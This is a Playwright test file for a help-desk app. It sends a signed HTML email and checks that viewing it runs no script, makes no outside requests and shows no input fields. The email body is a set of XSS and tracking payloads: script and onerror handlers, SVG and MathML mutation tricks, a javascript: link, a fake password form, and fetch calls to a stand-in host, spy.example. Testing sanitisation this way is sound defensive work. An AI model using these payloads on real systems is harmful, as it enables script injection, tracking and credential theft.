import { createHmac, randomUUID } from "node:crypto";
import { expect, type Request } from "@playwright/test";
import { demoAdmin } from "../accounts.ts";
import { Agent } from "../actors/agent.ts";
import { test } from "../fixtures.ts";

const secret = randomUUID();
test.use({ deskVariables: { MAIL_HTTP_SECRET: secret } });

const spy = "https://spy.example";
const hostile = `<!doctype html><html><head>
<meta http-equiv="refresh" content="0;url=${spy}/refresh"><base href="${spy}/">
<link rel="stylesheet" href="${spy}/a.css"><style>@import "${spy}/b.css"; body { background: url(${spy}/c.png) }</style>
<script>parent.document.title = "owned"; fetch("${spy}/script")</script></head>
<body onload="fetch('${spy}/onload')" background="${spy}/d.png">
<p>Hello from Mallory</p>
<img src="${spy}/e.png" srcset="${spy}/f.png 2x" onerror="fetch('${spy}/onerror')"><img src="x" onerror="alert(1)">
<svg><style><img src="${spy}/g.png" onerror="alert(2)"></style><script>alert(3)</script></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=${spy}/h.png onerror=alert(4)&gt;">
<iframe src="${spy}/frame"></iframe><object data="${spy}/object"></object><video poster="${spy}/i.png" src="${spy}/v"></video>
<form action="${spy}/form"><input name="password"><button autofocus>Sign in</button></form>
<div style="background-image:url(${spy}/j.png);position:fixed;inset:0">Over everything</div>
<a href="javascript:alert(5)">Script</a> <a href="${spy}/link">A link</a>
</body></html>`;

function mailOf(subject: string, html: string): string {
  return [
    "From: Mallory <mallory@example.com>",
    "To: support@desk.example",
    `Subject: ${subject}`,
    `Message-ID: <${randomUUID()}@example.com>`,
    "MIME-Version: 1.0",
    "Content-Type: text/html; charset=utf-8",
    "",
    html,
    "",
  ].join("\r\n");
}

// mail 28
test("a hostile mail that is looked at runs nothing, fetches nothing and has no field to type into; its links open outside", async ({
  browser,
  desk,
}) => {
  const subject = "A harmless question";
  const raw = mailOf(subject, hostile);
  const seconds = String(Math.floor(Date.now() / 1_000));
  const answer = await fetch(`${desk.url}/api/v1/mail/incoming`, {
    method: "POST",
    headers: {
      "Content-Type": "message/rfc822",
      "X-Deskbell-Time": seconds,
      "X-Deskbell-Signature": createHmac("sha256", secret)
        .update(`${seconds}.${raw}`)
        .digest("hex"),
    },
    body: raw,
  });
  expect(answer.status).toBe(200);

  // Of its own: windows that are lent run a script in every frame, which this one refuses.
  const context = await browser.newContext({ baseURL: desk.url });
  const page = await context.newPage();
  const agent = new Agent(page, demoAdmin);
  await agent.arrives(desk.url);
  const outside: string[] = [];
  const note = (request: Request) => {
    if (!request.url().startsWith(desk.url)) outside.push(request.url());
  };
  await agent.opensTicket(subject);
  context.on("request", note);
  const refused: string[] = [];
  page.on("console", (message) => {
    if (/Content Security Policy|sandbox/i.test(message.text())) refused.push(message.text());
  });
  let dialogs = 0;
  page.on("dialog", (dialog) => {
    dialogs += 1;
    void dialog.dismiss();
  });
  await agent.thread.getByRole("button", { name: "Original" }).click();
  const frame = page.getByRole("dialog", { name: subject }).frameLocator("iframe");
  await expect(frame.getByText("Hello from Mallory")).toBeVisible();
  await expect(frame.getByRole("link", { name: "A link" })).toHaveAttribute("target", "_blank");
  for (const tag of ["script", "img", "form", "input", "button", "iframe", "object", "svg"]) {
    await expect(frame.locator(tag)).toHaveCount(0);
  }
  await expect(frame.locator("[style], [onload], [onerror], [background]")).toHaveCount(0);
  await expect(page).toHaveTitle(new RegExp(subject));
  context.off("request", note);
  expect({ outside, refused, dialogs }).toEqual({ outside: [], refused: [], dialogs: 0 });
  await context.close();
});
